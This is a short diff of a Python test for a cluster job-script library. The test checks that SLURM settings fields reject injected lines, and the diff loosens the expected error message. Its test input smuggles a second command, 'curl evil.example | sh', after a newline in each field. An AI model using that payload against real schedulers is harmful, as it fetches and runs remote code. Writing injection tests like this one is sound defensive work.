@@ -44,7 +44,7 @@ def test_a_jobs_script_is_what_it_was(kind: ClusterKind, name: str, tmp_path: Pa
 
 def test_no_line_of_a_script_can_be_smuggled_in() -> None:
     for field in ("queue", "account", "walltime", "memory"):
-        with pytest.raises(ValueError, match="characters that a job"):
+        with pytest.raises(ValueError, match="characters"):
             ClusterSettings(ClusterKind.SLURM, **{field: "x\ncurl evil.example | sh"})
 
 
